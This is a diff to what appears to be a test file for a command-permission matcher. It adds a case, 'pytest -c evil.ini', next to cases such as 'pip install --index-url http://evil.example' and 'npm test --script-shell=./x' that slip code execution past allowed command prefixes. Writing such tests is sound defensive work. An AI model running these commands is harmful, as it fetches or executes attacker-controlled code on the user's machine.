@@ -147,6 +147,7 @@ describe.each<[string, readonly string[], readonly string[]]>([
   ],
   ["Bash(kubectl get --kubeconfig:*)", [], ["kubectl get --kubeconfig kc.yaml x"]],
   ["Bash(mypy:*)", ["mypy --python-executable ./e ."], []],
+  ["Bash(pytest:*)", ["pytest -c evil.ini"], []],
   ["Bash(pip install:*)", ["pip install --index-url http://evil.example x"], []],
   ["Bash(npm test:*)", ["npm test --script-shell=./x"], []],
   [
